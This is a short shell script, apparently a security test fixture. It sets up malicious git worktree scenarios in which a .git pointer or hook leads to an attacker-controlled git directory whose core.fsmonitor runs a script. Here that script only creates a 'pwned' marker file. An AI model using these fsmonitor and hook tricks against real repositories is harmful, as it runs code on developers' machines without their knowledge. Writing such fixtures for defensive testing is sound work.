# Leads a worktree outside of the project to a git directory with settings of the attacker. $1
# names the attack, $2 is the folder of the worktree, and $3 the name of the git directory to which
# another worktree leads.
evil=$PWD/evil.sh
printf '#!/bin/sh\ntouch "$HOME/pwned"\n' >evil.sh && chmod 755 evil.sh
# Makes a git directory with settings of the attacker in the folder $1, for the work tree $2.
settings() {
    git init -q --bare "$1" && git -C "$1" config core.bare false
    git -C "$1" config core.worktree "$2" && git -C "$1" config core.fsmonitor "$evil"
}
case $1 in
pointer) settings "$2/../settings" "$2" && echo "gitdir: $2/../settings" >"$2/.git" ;;
replaced) settings "$2/../settings" "$2" && echo "gitdir: $2/../settings" >"$2/new" && mv -f "$2/new" "$2/.git" ;;
moved)
    mkdir "$2/../a" && git init -q "$2/../b" && git -C "$2/../b" config core.fsmonitor "$evil"
    echo "gitdir: $2/../b/$3" >"$2/../a/.git"
    ;;
new)
    git worktree add -q "$2" && settings "$2/../settings" "$2" && echo "gitdir: $2/../settings" >"$2/.git"
    ;;
hook) cp evil.sh "$2/.githooks/pre-commit" ;;
esac
echo done
